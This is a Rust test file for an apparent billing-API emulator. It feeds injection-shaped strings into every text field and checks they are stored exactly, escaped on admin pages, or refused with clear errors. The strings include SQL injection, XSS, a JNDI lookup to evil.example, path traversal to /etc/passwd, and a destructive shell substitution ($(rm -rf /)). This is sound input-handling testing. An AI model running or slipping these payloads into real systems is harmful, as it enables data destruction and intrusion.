//! Injection-shaped text: stored and returned byte for byte, escaped on pages, clear 400s where rules apply.

use super::*;

/// Text shaped like SQL, HTML, template, JNDI and shell injections, escapes that are not real
/// NULs, and Unicode that breaks naive handling (RTL controls, emoji sequences, combining marks,
/// zero-width characters, control characters). None starts or ends with whitespace: names are
/// trimmed by design.
pub(super) const INJECTIONS: &[&str] = &[
    "'; DROP TABLE customers;--",
    "\" OR 1=1 --",
    "' OR '1'='1",
    "Robert'); DROP TABLE agreements;--",
    "1; SELECT pg_sleep(5)--",
    "<script>alert(\"pce\")</script>",
    "\"><img src=x onerror=alert(1)>",
    "{{7*7}}",
    "${7*7}",
    "#{7*7} <%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "%00 and %25 and %s%n%x",
    "\\0 \\x00 \\u0000 (not a real NUL)",
    "C:\\Windows\\System32\\ and \\\\server\\share",
    "trailing backslash \\",
    "../../etc/passwd",
    "$(rm -rf /) `id` | cat",
    "50% off_ LIKE wildcards %_",
    "Zoë Ångström Ñandú",
    "北京市朝阳区 東京都",
    "مرحبا بالعالم שלום",
    "\u{202E}gnp.exe\u{202C} RLO",
    "\u{200F}rtl mark\u{200E}",
    "family 👨\u{200D}👩\u{200D}👧\u{200D}👦 flag 🇺🇸 𝕳𝖊𝖑𝖑𝖔",
    "e\u{0301} Z\u{0337}\u{0349}\u{0308}a\u{0336}lgo",
    "zero\u{200B}width\u{FEFF}bom",
    "line1\nline2\r\n\ttabbed",
    "bell\u{7} del\u{7f} esc\u{1b}[31m unit-sep\u{1f}",
    "json \"quotes\" and \\\"escapes\\\" }]",
];

/// Every free-text field of a customer, as JSON pointers into the create body (and the read).
pub(super) const CUSTOMER_TEXT_FIELDS: &[&str] = &[
    "/companyProfile/companyName",
    "/companyProfile/organizationRegistrationNumber",
    "/billingProfile/companyName",
    "/billingProfile/firstName",
    "/billingProfile/lastName",
    "/billingProfile/defaultAddress/firstName",
    "/billingProfile/defaultAddress/lastName",
    "/billingProfile/defaultAddress/addressLine1",
    "/billingProfile/defaultAddress/addressLine2",
    "/billingProfile/defaultAddress/city",
    "/billingProfile/defaultAddress/state",
    "/billingProfile/defaultAddress/postalCode",
    "/billingProfile/defaultAddress/phoneNumber",
];

/// A customer's fields that are codes, not free text: a culture and a language (`en-US`, `en`).
const CUSTOMER_CODE_FIELDS: &[&str] = &["/billingProfile/culture", "/billingProfile/language"];

pub(super) fn full_customer_body(domain: &str) -> Value {
    let mut body = customer_body(domain);
    body["companyProfile"]["companyName"] = json!("x");
    body["companyProfile"]["organizationRegistrationNumber"] = json!("x");
    body["billingProfile"]["firstName"] = json!("x");
    body["billingProfile"]["lastName"] = json!("x");
    body["billingProfile"]["defaultAddress"]["addressLine2"] = json!("x");
    body["billingProfile"]["defaultAddress"]["phoneNumber"] = json!("x");
    body
}

fn set(body: &mut Value, pointer: &str, value: &str) {
    *body.pointer_mut(pointer).unwrap_or_else(|| panic!("{pointer} in the body")) = json!(value);
}

pub(super) fn unique(prefix: &str) -> String {
    format!("{prefix}{}", &uuid::Uuid::new_v4().simple().to_string()[..10])
}

/// A 400/990401 whose `data` names `field`.
async fn assert_refused(r: reqwest::Response, field: &str, what: &str) {
    assert_eq!(r.status(), 400, "{what}");
    let e = assert_error(r, 400, 990401).await;
    let data = e["data"].as_array().unwrap();
    assert!(data.iter().any(|d| d.as_str().unwrap().starts_with(field)), "{what}: {field} not named in {e}");
}

/// A client that kept the admin-center session of `user`.
async fn admin_center_session(app: &TestApp, user: &str, password: &str) -> reqwest::Client {
    let http =
        reqwest::Client::builder().cookie_store(true).redirect(reqwest::redirect::Policy::none()).build().unwrap();
    let page = http.get(app.url("/AdminPortal/SignIn")).send().await.unwrap().text().await.unwrap();
    let marker = "name=\"csrf\" value=\"";
    let start = page.find(marker).expect("csrf field") + marker.len();
    let csrf = &page[start..start + page[start..].find('"').unwrap()];
    let r = http
        .post(app.url("/AdminPortal/SignIn"))
        .form(&[("csrf", csrf), ("returnUrl", "/AdminPortal/Home"), ("userName", user), ("password", password)])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 303, "sign-in of {user}");
    http
}

/// Every string goes into every free-text field: partner name, token user id, each customer
/// profile field, contact names (confirmation and direct acceptance), order offer id. Each is
/// stored and returned byte for byte by the write and by every read (and in the notification
/// email); fields with rules (domain, country, email, phone) refuse them with a 400 naming the
/// field.
#[tokio::test]
async fn injection_shaped_text_is_stored_and_returned_byte_for_byte() {
    let app = TestApp::spawn_2023_flow().await;
    for (k, s) in INJECTIONS.iter().copied().enumerate() {
        let what = format!("string {k} {s:?}");
        // partner name and token user id
        let r = app
            .control(Method::POST, "/_emulator/partners", Some(&json!({"name": s, "partnerType": "DirectBill"})))
            .await;
        assert_eq!(r.status(), 201, "{what}");
        let partner: Value = r.json().await.unwrap();
        assert_eq!(partner["name"], s, "{what}");
        let tenant = partner["tenantId"].as_str().unwrap().to_string();
        let read = app.control_json(Method::GET, &format!("/_emulator/partners/{tenant}"), None).await;
        assert_eq!(read["name"], s, "{what}");
        let r = app
            .control(
                Method::POST,
                "/_emulator/tokens",
                Some(&json!({"partnerTenantId": tenant, "roles": ["AdminAgent"], "userId": s})),
            )
            .await;
        assert_eq!(r.status(), 200, "{what}");
        let token = r.json::<Value>().await.unwrap()["access_token"].as_str().unwrap().to_string();

        // every customer text field
        let mut body = full_customer_body(&unique(&format!("inj{k}x")));
        for field in CUSTOMER_TEXT_FIELDS {
            set(&mut body, field, s);
        }
        let r = app.post("/v1/customers", &token, &body).await;
        assert_eq!(r.status(), 201, "{what}");
        let created: Value = r.json().await.unwrap();
        let id = created["id"].as_str().unwrap().to_string();
        let read = app.get_json(&format!("/v1/customers/{id}"), &token).await;
        let list = app.get_json("/v1/customers", &token).await;
        for field in CUSTOMER_TEXT_FIELDS {
            assert_eq!(created.pointer(field), Some(&json!(s)), "{what}: {field} as created");
            assert_eq!(read.pointer(field), Some(&json!(s)), "{what}: {field} as read");
            assert_eq!(list["items"][0].pointer(field), Some(&json!(s)), "{what}: {field} in the list");
        }

        // contact names of a confirmation, the user id from the token, and the email
        let mut confirm = confirmation(s, "ana@contoso.example", "2025-01-01T00:00:00Z");
        confirm["primaryContact"]["lastName"] = json!(s);
        let r = app.confirm(&token, &id, &confirm).await;
        assert_eq!(r.status(), 201, "{what}");
        let agreement: Value = r.json().await.unwrap();
        assert_eq!(agreement["primaryContact"]["firstName"], s, "{what}");
        assert_eq!(agreement["primaryContact"]["lastName"], s, "{what}");
        assert_eq!(agreement["userId"], s, "{what}");
        // the same names again are the same confirmation
        assert_error(app.confirm(&token, &id, &confirm).await, 409, 600061).await;
        let outbox = app.control_json(Method::GET, &format!("/_emulator/outbox?customerId={id}"), None).await;
        assert_eq!(outbox["totalCount"], 1, "{what}");
        let email = &outbox["items"][0];
        assert!(email["body"].as_str().unwrap().starts_with(&format!("Dear {s} {s},\n")), "{what}: {email}");
        assert_eq!(
            email["subject"].as_str().unwrap(),
            format!("{s} confirmed that {s} accepted the Microsoft Customer Agreement"),
            "{what}"
        );

        // direct acceptance by the customer, through the control plane
        let r = app
            .control(
                Method::POST,
                &format!("/_emulator/customers/{id}/direct-acceptance"),
                Some(&json!({"firstName": s, "lastName": s, "email": "ana@contoso.example"})),
            )
            .await;
        assert_eq!(r.status(), 201, "{what}");
        let agreements = app.get_json(&format!("/v1/customers/{id}/agreements?agreementType=*"), &token).await;
        assert_eq!(agreements["totalCount"], 2, "{what}");
        for a in agreements["items"].as_array().unwrap() {
            assert_eq!(a["primaryContact"]["firstName"], s, "{what}");
            assert_eq!(a["primaryContact"]["lastName"], s, "{what}");
        }
        assert!(agreements["items"].as_array().unwrap().iter().any(|a| a["userId"] == s), "{what}");

        // order offer id
        let r = app
            .post(
                &format!("/v1/customers/{id}/orders"),
                &token,
                &json!({"lineItems": [{"lineItemNumber": 0, "offerId": s, "quantity": 1}]}),
            )
            .await;
        assert_eq!(r.status(), 201, "{what}");
        let order: Value = r.json().await.unwrap();
        assert_eq!(order["lineItems"][0]["offerId"], s, "{what}");
        let orders = app.get_json(&format!("/v1/customers/{id}/orders"), &token).await;
        assert_eq!(orders["items"][0]["lineItems"][0]["offerId"], s, "{what}");

        // fields with rules refuse the string and name the field
        let mut bad = full_customer_body(&unique("injref"));
        set(&mut bad, "/companyProfile/domain", s);
        assert_refused(app.post("/v1/customers", &token, &bad).await, "companyProfile.domain:", &what).await;
        let mut bad = full_customer_body(&unique("injref"));
        set(&mut bad, "/billingProfile/defaultAddress/country", s);
        assert_refused(app.post("/v1/customers", &token, &bad).await, "billingProfile.defaultAddress.country:", &what)
            .await;
        let mut bad = confirmation("Ana", "ana@contoso.example", "2025-01-01T00:00:00Z");
        bad["primaryContact"]["phoneNumber"] = json!(s);
        assert_refused(app.confirm(&token, &id, &bad).await, "primaryContact.phoneNumber:", &what).await;
        let mut bad = confirmation("Ana", "ana@contoso.example", s);
        bad["primaryContact"]["firstName"] = json!(unique("Ana"));
        assert_refused(app.confirm(&token, &id, &bad).await, "dateAgreed:", &what).await;
    }
}

/// Emails that are valid addresses by RFC 5322's dot-atom (quotes, braces, `$`, `%`, `'` are
/// allowed characters) are kept byte for byte; the others are refused naming the field.
#[tokio::test]
async fn injection_shaped_emails_are_kept_exactly_or_refused_clearly() {
    let app = TestApp::spawn_2023_flow().await;
    let p = app.persona("DirectBill").await;
    let c = app.create_customer(&p.token, &unique("emails")).await;
    let id = c["id"].as_str().unwrap();
    let valid = [
        "o'brien@contoso.example",
        "'or'1'='1@contoso.example",
        "{{7*7}}@contoso.example",
        "${7*7}@contoso.example",
        "user%00@contoso.example",
        "a+b/c=d?e^f`g{h|i}j~k@contoso.example",
        "drop.table--@contoso.example",
    ];
    let invalid = [
        "'; DROP TABLE customers;--",
        "\" OR 1=1 --@contoso.example",
        "<script>@contoso.example",
        "a@b@contoso.example",
        "${jndi:ldap://evil.example/a}@contoso.example",
        "ana@contoso.example'; DROP TABLE customers;--",
        "ana@contoso.example<script>",
        "ana@@contoso.example",
        "@contoso.example",
        "ana@",
    ];
    for email in valid {
        let r = app.confirm(&p.token, id, &confirmation(&unique("E"), email, "2025-01-01T00:00:00Z")).await;
        assert_eq!(r.status(), 201, "{email}");
        let a: Value = r.json().await.unwrap();
        assert_eq!(a["primaryContact"]["email"], email);
        let mut body = customer_body(&unique("em"));
        body["billingProfile"]["email"] = json!(email);
        let r = app.post("/v1/customers", &p.token, &body).await;
        assert_eq!(r.status(), 201, "{email}");
        let created: Value = r.json().await.unwrap();
        let read = app.get_json(&format!("/v1/customers/{}", created["id"].as_str().unwrap()), &p.token).await;
        assert_eq!(read["billingProfile"]["email"], email);
    }
    let agreements = app.get_json(&format!("/v1/customers/{id}/agreements?agreementType=*"), &p.token).await;
    let stored: BTreeSet<&str> = agreements["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["primaryContact"]["email"].as_str().unwrap())
        .collect();
    assert_eq!(stored, valid.into_iter().collect());
    let outbox = app.control_json(Method::GET, &format!("/_emulator/outbox?customerId={id}"), None).await;
    assert_eq!(outbox["totalCount"], valid.len());
    for email in invalid {
        let r = app.confirm(&p.token, id, &confirmation("Ana", email, "2025-01-01T00:00:00Z")).await;
        assert_refused(r, "primaryContact.email:", email).await;
        let mut body = customer_body(&unique("em"));
        body["billingProfile"]["email"] = json!(email);
        assert_refused(app.post("/v1/customers", &p.token, &body).await, "billingProfile.email:", email).await;
    }
}

/// Lengths, real NULs and whitespace: the documented limits, each a clear 400.
#[tokio::test]
async fn limits_on_text_are_clear_400s() {
    let app = TestApp::spawn_2023_flow().await;
    let p = app.persona("DirectBill").await;
    let c = app.create_customer(&p.token, &unique("limits")).await;
    let id = c["id"].as_str().unwrap();
    // names: at most 256 characters (characters, not bytes)
    let emoji_256 = "👨\u{200D}👩".repeat(85) + "é";
    assert_eq!(emoji_256.chars().count(), 256);
    let r = app.confirm(&p.token, id, &confirmation(&emoji_256, "ana@contoso.example", "2025-01-01T00:00:00Z")).await;
    assert_eq!(r.status(), 201);
    assert_eq!(r.json::<Value>().await.unwrap()["primaryContact"]["firstName"], emoji_256.as_str());
    let too_long = format!("{emoji_256}x");
    let r = app.confirm(&p.token, id, &confirmation(&too_long, "ana@contoso.example", "2025-01-01T00:00:00Z")).await;
    assert_refused(r, "primaryContact.firstName:", "257 characters").await;
    // free-text customer fields hold 256 characters exactly, and refuse more
    let long = format!("{}'; DROP TABLE customers;--", "\u{05D0}\\".repeat(115));
    assert_eq!(long.chars().count(), 256);
    let mut body = full_customer_body(&unique("long"));
    set(&mut body, "/billingProfile/defaultAddress/addressLine2", &long);
    let r = app.post("/v1/customers", &p.token, &body).await;
    assert_eq!(r.status(), 201);
    let created: Value = r.json().await.unwrap();
    let read = app.get_json(&format!("/v1/customers/{}", created["id"].as_str().unwrap()), &p.token).await;
    assert_eq!(read["billingProfile"]["defaultAddress"]["addressLine2"], long.as_str());
    let mut body = full_customer_body(&unique("longer"));
    set(&mut body, "/billingProfile/defaultAddress/addressLine2", &format!("{long}x"));
    assert_refused(
        app.post("/v1/customers", &p.token, &body).await,
        "billingProfile.defaultAddress.addressLine2: must be at most 256 characters",
        "257 characters",
    )
    .await;
    // a real NUL is refused everywhere (PostgreSQL cannot store it; both backends answer alike)
    for field in CUSTOMER_TEXT_FIELDS.iter().chain(CUSTOMER_CODE_FIELDS) {
        let mut body = full_customer_body(&unique("nul"));
        set(&mut body, field, "before\u{0}after");
        let e = assert_error(app.post("/v1/customers", &p.token, &body).await, 400, 990401).await;
        assert!(e["data"][0].as_str().unwrap().contains("NUL"), "{field}: {e}");
    }
    let e = assert_error(
        app.confirm(&p.token, id, &confirmation("A\u{0}B", "ana@contoso.example", "2025-01-01T00:00:00Z")).await,
        400,
        990401,
    )
    .await;
    assert!(e["data"][0].as_str().unwrap().contains("NUL"), "{e}");
    // whitespace-only is not a value
    let mut body = full_customer_body(&unique("blank"));
    set(&mut body, "/billingProfile/defaultAddress/city", " \t\u{3000}");
    assert_refused(
        app.post("/v1/customers", &p.token, &body).await,
        "billingProfile.defaultAddress.city:",
        "blank city",
    )
    .await;
}

/// Query filters and headers shaped like injections match only themselves.
#[tokio::test]
async fn injection_shaped_filters_and_headers_match_only_themselves() {
    let app = TestApp::spawn_2023_flow().await;
    let p = app.persona("DirectBill").await;
    let c = app.create_customer(&p.token, &unique("filters")).await;
    let id = c["id"].as_str().unwrap();
    let r = app.confirm(&p.token, id, &confirmation("Ana", "ana@contoso.example", "2025-01-01T00:00:00Z")).await;
    assert_eq!(r.status(), 201);
    let outbox = |query: Vec<(&'static str, String)>| {
        let app = &app;
        async move {
            let r = app.request(Method::GET, "/_emulator/outbox", None).query(&query).send().await.unwrap();
            assert_eq!(r.status(), 200, "{query:?}");
            r.json::<Value>().await.unwrap()["totalCount"].as_u64().unwrap()
        }
    };
    // controls: the real values find the email
    assert_eq!(outbox(vec![("to", "ana@contoso.example".into())]).await, 1);
    assert_eq!(outbox(vec![("customerId", id.to_string())]).await, 1);
    assert_eq!(outbox(vec![("partnerTenantId", p.tenant_id.clone())]).await, 1);
    for s in INJECTIONS.iter().copied().chain(["%", "_", "*", "ana@contoso.example' OR '1'='1", "' OR ''='"]) {
        for name in ["to", "customerId", "partnerTenantId"] {
            assert_eq!(outbox(vec![(name, s.to_string())]).await, 0, "{name}={s:?}");
        }
        if s == "*" {
            continue; // `*` is the documented "every type"
        }
        let r = app
            .request(Method::GET, "/v1/agreements", Some(&p.token))
            .query(&[("agreementType", s)])
            .send()
            .await
            .unwrap();
        let e = assert_error(r, 400, 990410).await;
        assert!(e["description"].as_str().unwrap().contains(s.trim()), "{s:?}: {e}");
    }
    // MS-CorrelationId shaped like an injection is echoed and found by exactly itself
    for s in ["' OR 1=1 --", "\"; DROP TABLE requests;--", "${jndi:ldap://x/a}", "%_%"] {
        let r = app
            .request(Method::GET, "/v1/agreements", Some(&p.token))
            .header("MS-CorrelationId", s)
            .send()
            .await
            .unwrap();
        assert_eq!(r.headers()["ms-correlationid"].to_str().unwrap(), s);
        let r =
            app.request(Method::GET, "/_emulator/requests", None).query(&[("correlationId", s)]).send().await.unwrap();
        let found: Value = r.json().await.unwrap();
        assert_eq!(found["totalCount"], 1, "{s:?}: {found}");
        assert_eq!(found["items"][0]["correlationId"], s);
    }
    // nothing was dropped
    assert_eq!(app.get_json("/v1/customers", &p.token).await["totalCount"], 1);
}

/// Names shaped like HTML are escaped on the admin-center pages, and a password shaped like an
/// injection (a seed file may choose one) signs in exactly.
#[tokio::test]
async fn admin_center_pages_escape_injected_names_and_passwords_match_exactly() {
    let app = TestApp::spawn().await;
    let script = "<script>alert(\"pce\")</script>";
    let attribute = "\"><img src=x onerror=alert(1)>";
    let password = "'; DROP TABLE customers;-- ${jndi:x} {{7*7}} \u{202E}é";
    let seed = json!({
        "partners": [{"key": "p", "name": script, "partnerType": "DirectBill"}],
        "customers": [{"key": "c", "partner": "p", "domain": unique("escape"), "companyName": attribute, "password": password}],
        "agreements": [{"customer": "c", "partner": "p", "firstName": script, "lastName": attribute, "email": "a@contoso.example", "dateAgreed": "2025-01-01T00:00:00Z"}],
    });
    let r = app.post_seed("application/json", seed.to_string()).await;
    assert_eq!(r.status(), 201);
    let summary: Value = r.json().await.unwrap();
    let user = summary["credentials"]["c"]["userName"].as_str().unwrap().to_string();
    assert_eq!(summary["credentials"]["c"]["password"], password);
    let partner_id = summary["ids"]["p"].as_str().unwrap().to_string();

    // near misses of the password are refused
    for wrong in [password.trim_end_matches('é'), &format!("{password} "), &password.to_uppercase()] {
        let http =
            reqwest::Client::builder().cookie_store(true).redirect(reqwest::redirect::Policy::none()).build().unwrap();
        let page = http.get(app.url("/AdminPortal/SignIn")).send().await.unwrap().text().await.unwrap();
        let marker = "name=\"csrf\" value=\"";
        let start = page.find(marker).unwrap() + marker.len();
        let csrf = &page[start..start + page[start..].find('"').unwrap()];
        let r = http
            .post(app.url("/AdminPortal/SignIn"))
            .form(&[
                ("csrf", csrf),
                ("returnUrl", "/AdminPortal/Home"),
                ("userName", user.as_str()),
                ("password", wrong),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 401, "{wrong:?}");
    }
    let http = admin_center_session(&app, &user, password).await;
    for path in [
        "/AdminPortal/Home".to_string(),
        "/AdminPortal/Home?ref=/BillingAccounts/agreement".to_string(),
        "/AdminPortal/Partners".to_string(),
        format!("/AdminPortal/Partners/{partner_id}"),
    ] {
        let r = http.get(app.url(&path)).send().await.unwrap();
        assert_eq!(r.status(), 200, "{path}");
        let html = r.text().await.unwrap();
        assert!(!html.contains("<script>alert") && !html.contains("<img src=x"), "{path} is not escaped: {html}");
        let escaped = [
            "&lt;script&gt;alert(&quot;pce&quot;)&lt;/script&gt;",
            "&lt;script&gt;alert(\"pce\")&lt;/script&gt;",
            "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
        ];
        assert!(escaped.iter().any(|e| html.contains(e)), "{path} shows neither name escaped: {html}");
    }
}

/// Two different contacts are two confirmations, whatever characters their names hold: the
/// duplicate rule compares each field, so moving a character from one field to the next must
/// not make a different person "the same".
#[tokio::test]
async fn contacts_differing_only_in_where_a_separator_falls_are_different() {
    let app = TestApp::spawn_2023_flow().await;
    let p = app.persona("DirectBill").await;
    let c = app.create_customer(&p.token, &unique("separator")).await;
    let id = c["id"].as_str().unwrap();
    let contact = |first: &str, last: &str| {
        json!({"primaryContact": {"firstName": first, "lastName": last, "email": "ana@contoso.example"},
               "templateId": MCA_TEMPLATE, "dateAgreed": "2025-01-01T00:00:00Z"})
    };
    assert_eq!(app.confirm(&p.token, id, &contact("Ana\u{1f}Lee", "Bowen")).await.status(), 201);
    let r = app.confirm(&p.token, id, &contact("Ana", "Lee\u{1f}Bowen")).await;
    assert_eq!(r.status(), 201, "a different contact was taken for a duplicate: {}", r.text().await.unwrap());
}
